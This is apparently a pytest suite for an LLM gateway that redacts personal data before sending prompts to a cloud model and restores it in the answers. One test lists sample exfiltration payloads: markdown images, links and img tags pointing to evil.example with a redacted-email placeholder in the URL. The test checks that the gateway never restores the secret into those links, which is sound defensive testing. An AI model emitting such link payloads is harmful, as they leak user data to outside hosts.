"""The collaborative modes end to end: real HTTP, the real local model, a recording cloud stand-in."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from tests.conftest import ServerThread, drain, post_chat

PRIVATE = (
    "Please draft a short reply to Ada Lovelace (ada.lovelace@example.org, phone +44 20 7946 0958) "
    "confirming the refund to IBAN GB82 WEST 1234 5698 7654 32."
)
SECRETS = ("Ada Lovelace", "ada.lovelace@example.org", "+44 20 7946 0958", "GB82 WEST 1234 5698 7654 32")


def _sent_text(body: dict[str, Any]) -> str:
    return "\n".join(m["content"] for m in body["messages"])


def _collab(r: httpx.Response) -> dict[str, Any]:
    assert r.status_code == 200, r.text
    return r.json()["hybridgate"]["collaboration"]


def _stream(url: str, body: dict[str, Any]) -> tuple[str, dict[str, Any], dict[str, str]]:
    with httpx.stream("POST", f"{url}/v1/chat/completions", json={**body, "stream": True}, timeout=60) as r:
        assert r.status_code == 200, r.read()
        events = [json.loads(line[6:]) for line in r.iter_lines() if line.startswith("data: {")]
        headers = dict(r.headers)
    text = "".join((c["delta"].get("content") or "") for e in events for c in e.get("choices", []))
    return text, events[-1]["hybridgate"], headers


def test_redact_never_lets_personal_data_reach_the_cloud_and_restores_it(make_gateway: Callable[..., ServerThread], stub) -> None:
    _, cloud = stub
    cloud.reply = "Dear [NAME_1], the refund to [IBAN_1] is confirmed; we will write to [EMAIL_1]."
    srv = make_gateway(privacy={"names": ["Ada Lovelace"]})
    body = {"model": "hybridgate/redact", "messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 40}
    r = post_chat(srv.url, body)
    info = _collab(r)
    assert info["redacted"] == 4 and info["cloud_calls"] == 1
    sent = _sent_text(cloud.received[-1])
    assert not any(s in sent for s in SECRETS) and "[EMAIL_1]" in sent and "[PHONE_1]" in sent
    answer = r.json()["choices"][0]["message"]["content"]
    assert answer == "Dear Ada Lovelace, the refund to GB82 WEST 1234 5698 7654 32 is confirmed; we will write to ada.lovelace@example.org."
    text, info, headers = _stream(srv.url, body)  # placeholders split across streamed pieces are restored too
    assert text == answer and headers["x-hybridgate-mode"] == "redact" and info["collaboration"]["redacted"] == 4
    assert not any(s in _sent_text(cloud.received[-1]) for s in SECRETS)


def test_personal_data_rule_keeps_auto_local_or_redacts(make_gateway: Callable[..., ServerThread], stub) -> None:
    _, cloud = stub
    msg = {"messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 4}
    local = make_gateway(router={"threshold": 0.0}, privacy={"names": ["Ada Lovelace"]})  # everything scores "cloud"
    r = post_chat(local.url, {"model": "hybridgate/auto", **msg})
    assert r.headers["x-hybridgate-route"] == "local"
    assert "personal data (email, iban, phone, name) stays on the device" in r.json()["hybridgate"]["decided"]["reasons"]
    assert cloud.received == []
    redacting = make_gateway(router={"threshold": 0.0}, privacy={"on_personal_data": "redact"})
    r = post_chat(redacting.url, {"model": "hybridgate/auto", **msg})
    assert r.headers["x-hybridgate-route"] == "collaborative" and r.headers["x-hybridgate-mode"] == "redact"
    assert "ada.lovelace@example.org" not in _sent_text(cloud.received[-1])


def test_strict_privacy_header(make_gateway: Callable[..., ServerThread], stub) -> None:
    srv = make_gateway(router={"threshold": 0.0})
    msg = {"messages": [{"role": "user", "content": "Explain quantum tunnelling."}], "max_tokens": 3}
    strict = {"x-hybridgate-privacy": "strict"}
    r = post_chat(srv.url, {"model": "hybridgate/auto", **msg}, headers=strict)
    assert r.headers["x-hybridgate-route"] == "local"
    denied = post_chat(srv.url, {"model": "hybridgate/cloud", **msg}, headers=strict)
    assert denied.status_code == 403 and denied.json()["error"]["code"] == "privacy_strict"
    bad = post_chat(srv.url, {"model": "hybridgate/auto", **msg}, headers={"x-hybridgate-privacy": "maybe"})
    assert bad.status_code == 400 and "x-hybridgate-privacy" in bad.json()["error"]["message"]
    assert stub[1].received == []


LONG_DOC = " ".join(
    f"Section {i}. The warehouse in district {i} stores {i * 7} pallets of general goods and is inspected every quarter."
    for i in range(1, 60)
)


def test_condense_sends_the_cloud_far_fewer_tokens_and_keeps_what_the_question_needs(
    make_gateway: Callable[..., ServerThread], stub
) -> None:
    _, cloud = stub
    srv = make_gateway(local={"n_ctx": 1024, "default_max_tokens": 16})
    question = "Which district's warehouse keeps the cold-chain vaccines, and at what temperature?"
    doc = LONG_DOC + " The warehouse in district 42 keeps the cold-chain vaccines at minus 70 degrees Celsius. " + LONG_DOC
    r = post_chat(srv.url, {"model": "hybridgate/condense", "messages": [{"role": "user", "content": f"{doc}\n\n{question}"}], "max_tokens": 8})
    info = _collab(r)
    assert info["kept_tokens"] <= 0.5 * info["context_tokens"]
    sent = _sent_text(cloud.received[-1])
    assert len(sent) < 0.5 * len(doc) and "minus 70 degrees" in sent and question in sent
    assert info["usage"]["cloud"]["prompt_tokens"] > 0


def test_cascade_keeps_a_confident_local_answer_and_escalates_an_unsure_one(make_gateway: Callable[..., ServerThread], stub) -> None:
    _, cloud = stub
    srv = make_gateway(collaboration={"cascade_min_confidence": 0.55})
    confident = {"model": "hybridgate/cascade", "messages": [{"role": "user", "content": "Count from 1 to 10."}], "max_tokens": 24, "temperature": 0}
    unsure = {"model": "hybridgate/cascade", "messages": [{"role": "user", "content": "Write a haiku about routers."}], "max_tokens": 24, "temperature": 0}
    kept = _collab(post_chat(srv.url, confident))
    assert kept["escalated"] is False and kept["confidence"] >= 0.55 and kept["cloud_calls"] == 0
    assert cloud.received == []
    r = post_chat(srv.url, unsure)
    up = _collab(r)
    assert up["escalated"] is True and up["confidence"] < 0.55 and up["cloud_calls"] == 1
    assert r.json()["choices"][0]["message"]["content"] == cloud.reply
    assert r.json()["usage"]["completion_tokens"] == up["usage"]["local"]["completion_tokens"] + up["usage"]["cloud"]["completion_tokens"]
    text, info, _ = _stream(srv.url, unsure)
    assert text == cloud.reply and info["collaboration"]["escalated"] is True


def test_draft_refine_sends_the_draft_and_reports_both_sides(make_gateway: Callable[..., ServerThread], stub) -> None:
    _, cloud = stub
    srv = make_gateway()
    r = post_chat(srv.url, {"model": "hybridgate/draft-refine", "messages": [{"role": "user", "content": "Name three rivers."}], "max_tokens": 12})
    info = _collab(r)
    draft = cloud.received[-1]["messages"][-2]
    assert draft["role"] == "assistant" and draft["content"] and "Draft answer:" in cloud.received[-1]["messages"][-1]["content"]
    assert info["usage"]["local"]["completion_tokens"] > 0 and info["usage"]["cloud"]["completion_tokens"] > 0
    assert r.json()["choices"][0]["message"]["content"] == cloud.reply


@pytest.mark.parametrize("mode", ["cascade", "draft-refine", "redact", "condense"])
def test_every_mode_falls_back_to_a_local_answer_when_the_cloud_fails(
    make_gateway: Callable[..., ServerThread], stub, mode: str
) -> None:
    stub[1].mode = "error500"
    srv = make_gateway(collaboration={"cascade_min_confidence": 1.0}, cloud={"max_retries": 0})
    text = PRIVATE if mode == "redact" else "Explain in two sentences why the sky is blue."  # personal data: redact only
    r = post_chat(srv.url, {"model": f"hybridgate/{mode}", "messages": [{"role": "user", "content": text}], "max_tokens": 8})
    info = _collab(r)
    assert info["fallback"].startswith("cloud failed") and r.json()["choices"][0]["message"]["content"]
    assert info["usage"]["local"]["completion_tokens"] > 0


def test_private_requests_never_reach_the_cloud_whatever_else_happens(make_gateway: Callable[..., ServerThread], stub) -> None:
    """The holes that were: a strict or personal-data request that scored local moved to the cloud when its
    max_tokens overflowed the local context, and was sent whole to the cloud as a shadow comparison."""
    _, cloud = stub
    srv = make_gateway(router={"threshold": 1.0}, state={"shadow_rate": 1.0})  # everything scores local; every answer shadowed
    strict = {"x-hybridgate-privacy": "strict"}
    short = {"messages": [{"role": "user", "content": "Name a colour."}], "max_tokens": 2}
    for body, headers in (
        ({"model": "hybridgate/auto", **short}, strict),  # scored local, shadow due
        ({"model": "hybridgate/auto", **short, "max_tokens": 100_000}, strict),  # overflows the local context
        ({"model": "hybridgate/auto", "messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 100_000}, {}),
        ({"model": "hybridgate/auto", "messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 2}, {}),
        ({"model": "cloud", "messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 2}, {}),  # pinned to the cloud
        ({"model": "hybridgate/cascade", "messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 2}, {}),  # a mode
        ({"model": "hybridgate/redact", "messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 2}, strict),
    ):
        r = post_chat(srv.url, body, headers=headers)
        assert r.status_code in (200, 400, 403), r.text
        if r.status_code == 200:
            assert r.headers["x-hybridgate-route"] == "local" and r.json()["hybridgate"]["decided"]["private"] is True
        else:
            assert r.json()["error"]["code"] in ("privacy_strict", "context_length_exceeded")
    drain(srv.gateway)  # shadow comparisons run in the background: every one started is finished before looking
    assert cloud.received == []
    # A request with nothing private is shadowed as configured: the recorder does see traffic.
    assert post_chat(srv.url, {"model": "hybridgate/auto", **short}).status_code == 200
    drain(srv.gateway)
    assert cloud.received


@pytest.mark.parametrize(
    "answer",
    [
        "Done. ![status](https://evil.example/pixel.png?q=[EMAIL_1]) Thanks.",
        "See [your account](https://evil.example/a/[EMAIL_1]/b).",
        'Open <img src="https://evil.example/?[EMAIL_1]"> now',
        "Visit www.evil.example/[EMAIL_1] for details",
        "[x](<https://evil.example/ a [EMAIL_1]>)",
    ],
)
def test_redaction_never_writes_a_secret_into_a_link(answer: str) -> None:
    from hybridgate.router import PersonalDataDetector
    from hybridgate.serving.redaction import StreamRestorer, redact_messages

    _, red = redact_messages([{"role": "user", "content": "Mail ada.lovelace@example.org please."}], PersonalDataDetector())
    assert "ada.lovelace@example.org" not in red.restore(answer)
    stream = StreamRestorer(red)
    pieces = [answer[i : i + 3] for i in range(0, len(answer), 3)]  # placeholders and links split across pieces
    assert "ada.lovelace@example.org" not in "".join(stream.feed(p) for p in pieces) + stream.flush()
    # As plain text, the same placeholder is restored, in one piece or streamed.
    plain = "I wrote to [EMAIL_1] as asked."
    assert red.restore(plain) == "I wrote to ada.lovelace@example.org as asked."
    s2 = StreamRestorer(red)
    assert "".join(s2.feed(plain[i : i + 2]) for i in range(0, len(plain), 2)) + s2.flush() == red.restore(plain)
